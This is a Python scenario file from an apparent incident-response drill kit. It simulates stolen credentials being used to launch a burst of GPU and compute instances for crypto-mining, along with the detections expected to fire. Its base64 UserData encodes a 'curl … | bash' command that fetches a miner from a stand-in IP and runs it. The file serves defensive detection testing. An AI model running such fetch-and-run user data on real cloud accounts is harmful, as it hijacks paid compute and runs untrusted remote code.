"""The seed's crypto-mining incident: stolen agent credentials launch a burst of large instances.

The agent launches an instance now and then in us-east-1; the attacker launches dozens of GPU and
compute-optimised instances at once, half of them in a region the agent never uses.
"""

from __future__ import annotations

from datetime import timedelta

from irkit.drill.scenarios import Scenario
from irkit.drill.world import World

MINER_REGION = "ap-southeast-1"


def attack(world: World) -> None:
    assert world.attacker is not None
    a = world.attacker
    t = world.now - timedelta(minutes=70)
    user_data = "IyEvYmluL2Jhc2gKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjY2L3htcmlnIHwgYmFzaA=="  # curl … | bash
    for i, (region, itype, count) in enumerate(
        [(MINER_REGION, "p3.2xlarge", 12), (MINER_REGION, "p3.2xlarge", 12), ("us-east-1", "c5.4xlarge", 10)]
    ):
        run = a.call(
            "ec2",
            "RunInstances",
            region=region,
            when=t + timedelta(seconds=20 * i),
            ImageId="ami-12c6146b",
            MinCount=count,
            MaxCount=count,
            InstanceType=itype,
            UserData=user_data,
        )
        ids = [inst["InstanceId"] for inst in run.get("Instances", [])]
        world.created_by_attacker.append({"kind": "instances", "name": itype, "region": region, "ids": ",".join(ids)})


SCENARIO = Scenario(
    name="crypto-mining",
    summary="34 GPU/compute instances launched in a burst, most in a region the agent never uses",
    expected=("ec2_large_or_gpu_instance", "ec2_instance_burst", "ec2_unusual_region", "baseline_new_region"),
    attack=attack,
)
